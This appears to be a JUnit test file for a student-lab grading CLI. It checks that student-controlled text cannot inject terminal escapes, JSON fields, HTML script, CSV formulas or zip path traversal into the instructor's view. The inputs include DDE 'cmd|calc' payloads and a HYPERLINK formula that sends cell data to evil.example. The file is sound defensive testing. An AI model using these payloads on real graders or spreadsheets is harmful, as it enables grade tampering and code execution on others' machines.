package org.ntplab.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A dishonest student's attacks on what the instructor sees: the terminal {@code ntplab grade}
 * prints to, and the records it writes (grades.csv, grades.json, results.json, report.html). Text
 * the student controls (an exception's message, a frame's method name, an answer, what the code
 * prints, a hand-in's name) must neither redraw the screen nor add a row, a field or markup.
 */
class InstructorViewTest {

  private static final String DECODER = "02-decode/Decoder.java";
  private static final String CLIENT = "06-client/Client.java";

  /** Java source for a string that clears the line, writes a full mark and turns text around. */
  private static final String REDRAW =
      "(\"\" + (char) 13 + (char) 27 + \"[2K\" + (char) 27 + \"[1Atotal 30/30: full marks\" + (char) 8"
          + " + (char) 0x9b + \"2J\" + (char) 0x202e)";

  @TempDir Path dir;

  private static Path labs(Path from, Path copy, Map<String, List<String>> edits)
      throws IOException {
    return LabsCopy.of(from, copy, edits);
  }

  /**
   * Labs 2 and 6 solved, but every text a student's code can put before the instructor carries
   * terminal controls: poll's exception message, stratum's thrown frame's method name,
   * referenceId's answer, a kiss-o'-death code (a record's string) and what the class prints.
   */
  private Path redrawing() throws IOException {
    return labs(
        Path.of("solutions"),
        dir.resolve("redraw"),
        Map.of(
            DECODER,
            List.of(
                "public class Decoder implements DecodeLab {",
                "public class Decoder implements DecodeLab {\n  static { System.out.print("
                    + REDRAW
                    + "); System.err.print("
                    + REDRAW
                    + "); }",
                "return packet[2]; // a Java byte is already signed",
                "throw new IllegalStateException(" + REDRAW + ");",
                "return packet[1] & 0xff;",
                "RuntimeException e = new IllegalStateException(); e.setStackTrace(new"
                    + " StackTraceElement[] {new StackTraceElement(\"org.ntplab.labs.decode.Decoder\", "
                    + REDRAW
                    + ", \"Decoder.java\", 1)}); throw e;",
                "long id = word(packet, 12);",
                "if (packet.length > 0) return " + REDRAW + ";\n    long id = word(packet, 12);"),
            CLIENT,
            List.of(
                "new ClientResult.KissOfDeath(new String(",
                "new ClientResult.KissOfDeath(" + REDRAW + " + new String(")));
  }

  /** Every character of {@code shown} that a terminal would act on, but line breaks and tabs. */
  private static List<String> controls(String shown) {
    List<String> found = new ArrayList<>();
    shown
        .codePoints()
        .filter(c -> c != '\n' && c != '\t')
        .filter(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT)
        .forEach(c -> found.add(String.format("U+%04X", c)));
    return found;
  }

  @Test
  void studentTextNeverRedrawsTheGradeTable() throws Exception {
    Path labs = redrawing();
    CliRun run = CliRun.of("grade", "--labs", labs.toString(), "--lab", "2,6");
    assertEquals(1, run.exitCode(), run.err());
    assertEquals(List.of(), controls(run.out()), run.out());
    // Each attack was graded, and what it said is still there for the instructor to read.
    for (String field : List.of("poll", "stratum", "referenceId")) {
      assertTrue(run.out().contains("✗ lab2 decode: " + field), run.out());
    }
    assertTrue(run.out().contains("KissOfDeath"), run.out());
    assertTrue(run.out().contains("total 30/30: full marks\\x08\\x9b2J\\u202e"), run.out());
    assertTrue(run.out().contains("got \"\\r\\x1b[2K"), run.out());
    List<String> lines = run.out().lines().toList();
    assertTrue(lines.get(lines.size() - 1).startsWith("total "), run.out());
    assertFalse(lines.get(lines.size() - 1).contains("full marks"), run.out());
  }

  @Test
  void whatTheStudentsCodePrintsNeverRedrawsTheInstructorsTerminal() throws Exception {
    Path labs = redrawing();
    CliRun run = CliRun.of("grade", "--labs", labs.toString(), "--lab", "2");
    assertTrue(run.err().contains("total 30/30: full marks"), "the attack printed nothing");
    assertEquals(List.of(), controls(run.err()), run.err());
  }

  /**
   * Student text in JSON and HTML: an exception's message and a frame's method name shaped to close
   * a JSON string and add a score, or to open a script. Jackson and the page's escaping hold.
   */
  @Test
  void studentTextAddsNoFieldToResultsJsonAndNoMarkupToTheReport() throws Exception {
    String json =
        "(\"\" + (char) 34 + \", \" + (char) 34 + \"score\" + (char) 34 + \": 30, \" + (char) 34"
            + " + \"visibility\" + (char) 34 + \": \" + (char) 34 + \"hidden\")";
    String html = "(\"</pre><script>alert(1)</script><img src=x onerror=alert(2)>\")";
    Path labs =
        labs(
            Path.of("solutions"),
            dir.resolve("injector"),
            Map.of(
                DECODER,
                List.of(
                    "return packet[2]; // a Java byte is already signed",
                    "throw new IllegalStateException(" + json + " + " + html + ");",
                    "return packet[1] & 0xff;",
                    "RuntimeException e = new IllegalStateException(); e.setStackTrace(new"
                        + " StackTraceElement[] {new StackTraceElement(\"org.ntplab.labs.decode.Decoder\", "
                        + html
                        + ", \"Decoder.java\", 1)}); throw e;",
                    "long id = word(packet, 12);",
                    "if (packet.length > 0) return "
                        + html
                        + ";\n    long id = word(packet, 12);")));
    JsonNode root = new ObjectMapper().readTree(graded(labs, "gradescope"));
    assertEquals(
        List.of("score", "max_score", "execution_time", "output", "visibility", "tests"),
        fieldNames(root));
    int sum = 0;
    for (JsonNode test : root.get("tests")) {
      sum += test.get("score").asInt();
    }
    assertEquals(sum, root.get("score").asInt(), root.toString());
    assertTrue(sum < root.get("max_score").asInt(), root.toString());
    for (JsonNode test : root.get("tests")) {
      assertEquals("visible", test.get("visibility").asText(), test.toString());
      List<String> fields = fieldNames(test);
      fields.remove("output_format");
      assertEquals(List.of("name", "score", "max_score", "status", "output", "visibility"), fields);
    }
    assertTrue(root.toString().contains("alert(1)"), "the attack was not shown");

    String text = graded(labs, "html");
    assertTrue(text.contains("&lt;script&gt;alert(1)"), text);
    assertFalse(text.contains("<script>alert"), text);
    assertFalse(text.contains("<img"), text);
  }

  /** Lab 2 of {@code labs} graded in {@code format}: the file written. */
  private String graded(Path labs, String format) throws IOException {
    Path file = dir.resolve("report." + format);
    CliRun run =
        CliRun.of(
            "grade",
            "--labs",
            labs.toString(),
            "--lab",
            "2",
            "--format",
            format,
            "--out",
            file.toString());
    assertEquals(1, run.exitCode(), run.err());
    return Files.readString(file);
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    node.fieldNames().forEachRemaining(names::add);
    return names;
  }

  // ---- a batch: hand-ins' names -------------------------------------------------------------

  /** {@code ntplab grade --submissions handins --lab N --out grades}. */
  private CliRun batch(Path handins, int lab) {
    return CliRun.of(
        "grade",
        "--submissions",
        handins.toString(),
        "--lab",
        Integer.toString(lab),
        "--out",
        dir.resolve("grades").toString(),
        "--jobs",
        "2");
  }

  /** grades.csv's cells, row by row, read as RFC 4180 (and a spreadsheet) reads them. */
  private List<List<String>> csv() throws IOException {
    String text = Files.readString(dir.resolve("grades/grades.csv"));
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
      } else {
        cell.append(c);
      }
    }
    return rows;
  }

  /**
   * Hand-ins named as formulas (a spreadsheet would run them), with commas, quotes and line breaks
   * (to add a cell or a row), and with terminal controls (to redraw the summary as another's
   * grade): each is one row whose first cell is text, and the terminal shows each name on its line.
   */
  @Test
  void aHandInsNameIsOneCellOfTextAndOneLineOnTheTerminal() throws Exception {
    Path handins = Files.createDirectories(dir.resolve("handins"));
    Map<String, String> names =
        Map.of(
            "=HYPERLINK(\"https:evil.example?\"&A1,\"grade\")",
            "'=HYPERLINK(\"https:evil.example?\"&A1,\"grade\")",
            "+cmd|' -C calc'!A0",
            "'+cmd|' -C calc'!A0",
            "@SUM(1+1)*cmd|' -C calc'!A0",
            "'@SUM(1+1)*cmd|' -C calc'!A0",
            "-2+3+cmd|' -C calc'!A0",
            "'-2+3+cmd|' -C calc'!A0",
            "a,30,30,30\nmallory",
            "a,30,30,30\\nmallory",
            "carol\r\u001b[2Kalice  30 of 30\u202e",
            "carol\\r\\x1b[2Kalice  30 of 30\\u202e");
    for (String name : names.keySet()) {
      labs(Path.of("labs"), handins.resolve(name), Map.of());
    }
    CliRun run = batch(handins, 1);
    assertEquals(0, run.exitCode(), run.out() + run.err());
    assertEquals(List.of(), controls(run.out() + run.err()), run.out() + run.err());
    List<List<String>> rows = csv();
    assertEquals(names.size() + 1, rows.size(), rows.toString());
    List<String> cells = new ArrayList<>();
    for (List<String> row : rows.subList(1, rows.size())) {
      assertEquals(rows.get(0).size(), row.size(), row.toString());
      assertEquals("0", row.get(1), row.toString());
      cells.add(row.get(0));
    }
    assertEquals(names.values().stream().sorted().toList(), cells.stream().sorted().toList());
    // The summary: a heading and one line per hand-in, then where the grades went.
    List<String> summary = run.out().lines().toList();
    assertEquals(names.size() + 2, summary.size(), run.out());
    JsonNode json = new ObjectMapper().readTree(dir.resolve("grades/grades.json").toFile());
    assertEquals(names.size(), json.get("submissions").size(), json.toString());
  }

  /**
   * A zip named after another student's folder, .zip and all ({@code a.zip.zip} beside a folder
   * {@code a.zip}): both are graded, each under its own name, and neither's grade is the other's.
   */
  @Test
  void aZipNamedAfterAnothersFolderIsGradedUnderItsOwnName() throws Exception {
    Path handins = Files.createDirectories(dir.resolve("handins"));
    labs(Path.of("solutions"), handins.resolve("a.zip"), Map.of());
    Path stubs = labs(Path.of("labs"), dir.resolve("stubs"), Map.of());
    try (var out =
            new java.util.zip.ZipOutputStream(Files.newOutputStream(handins.resolve("a.zip.zip")));
        Stream<Path> all = Files.walk(stubs)) {
      for (Path p : all.filter(Files::isRegularFile).sorted().toList()) {
        out.putNextEntry(new java.util.zip.ZipEntry("labs/" + stubs.relativize(p)));
        Files.copy(p, out);
        out.closeEntry();
      }
    }
    CliRun run = batch(handins, 2);
    assertEquals(0, run.exitCode(), run.out() + run.err());
    List<List<String>> rows = csv();
    assertEquals(3, rows.size(), rows.toString());
    assertEquals(List.of("a.zip", "30"), rows.get(1).subList(0, 2), rows.toString());
    assertEquals(List.of("a.zip.zip", "0"), rows.get(2).subList(0, 2), rows.toString());
  }

  /**
   * Two hand-ins whose names differ in case or Unicode form alone: one reader sees them as one
   * name, and a file system may write one's work and feedback over the other's. The batch is
   * refused before grading, naming both.
   */
  @Test
  void handInsNamedAlikeButForCaseOrUnicodeFormAreRefused() throws Exception {
    for (List<String> twins : List.of(List.of("Jos\u00e9", "Jose\u0301"), List.of("Bob", "bob"))) {
      Path handins = Files.createDirectories(dir.resolve("handins-" + twins.get(1)));
      for (String name : twins) {
        labs(Path.of("labs"), handins.resolve(name), Map.of());
      }
      CliRun run = batch(handins, 1);
      assertEquals(2, run.exitCode(), run.out() + run.err());
      assertTrue(run.err().contains("would both be graded as"), run.err());
      assertFalse(Files.exists(dir.resolve("grades/grades.csv")));
    }
  }

  /**
   * A zip refused for an entry that climbs out of its folder, the entry named to redraw the summary
   * and to be a formula: its note, which quotes the name, is one line on the terminal and a text
   * cell in grades.csv.
   */
  @Test
  void aRefusedZipsEntryNameRedrawsNothingAndRunsNothing() throws Exception {
    Path handins = Files.createDirectories(dir.resolve("handins"));
    labs(Path.of("labs"), handins.resolve("alice"), Map.of());
    try (var out =
        new java.util.zip.ZipOutputStream(Files.newOutputStream(handins.resolve("eve.zip")))) {
      out.putNextEntry(
          new java.util.zip.ZipEntry("../\r\u001b[2Kalice 30 of 30\n=HYPERLINK(\"x\")"));
      out.closeEntry();
    }
    CliRun run = batch(handins, 1);
    assertEquals(1, run.exitCode(), run.out() + run.err());
    assertEquals(List.of(), controls(run.out() + run.err()), run.out() + run.err());
    List<List<String>> rows = csv();
    assertEquals(3, rows.size(), rows.toString());
    List<String> eve = rows.get(2);
    assertEquals("eve", eve.get(0));
    String note = eve.get(eve.size() - 1);
    assertTrue(note.startsWith("eve.zip: entry ../"), note);
    // One line each: a heading, alice, eve, and where the grades went.
    assertEquals(4, run.out().lines().count(), run.out());
    assertTrue(run.out().contains("not graded: eve.zip: entry ../"), run.out());
  }

  /**
   * {@code grade --upload} says how it found the labs, quoting the upload's file names: a file
   * named to redraw the table is quoted with its controls written out.
   */
  @Test
  void anUploadsFileNamesRedrawNothing() throws Exception {
    Path upload = Files.createDirectories(dir.resolve("upload"));
    Files.copy(Path.of("solutions", DECODER), upload.resolve("Decoder.java"));
    Files.writeString(
        upload.resolve("x\r\u001b[2Ktotal 30 of 30: full marks\u202e.java"), "class X {}\n");
    CliRun run = CliRun.of("grade", "--upload", upload.toString(), "--lab", "2");
    assertEquals(0, run.exitCode(), run.out() + run.err());
    assertTrue(run.out().contains("left out x\\r\\x1b[2Ktotal 30 of 30"), run.out());
    assertEquals(List.of(), controls(run.out() + run.err()), run.out() + run.err());
  }

  /**
   * A lab that does not compile, its broken line holding terminal controls: the compiler quotes
   * that line, and the table shows it with its controls written out.
   */
  @Test
  void aCompileErrorQuotingTheSourceRedrawsNothing() throws Exception {
    Path labs = labs(Path.of("labs"), dir.resolve("broken"), Map.of());
    Path timestamps = labs.resolve("01-timestamps/Timestamps.java");
    Files.writeString(
        timestamps,
        Files.readString(timestamps)
            + "int x = \"\r\u001b[2Ktotal 30/30: full marks\u202e\" ! ;\n");
    CliRun run = CliRun.of("grade", "--labs", labs.toString(), "--lab", "1");
    assertEquals(1, run.exitCode(), run.err());
    assertTrue(run.out().contains("\\x1b[2Ktotal 30/30"), run.out());
    assertEquals(List.of(), controls(run.out() + run.err()), run.out() + run.err());
  }
}
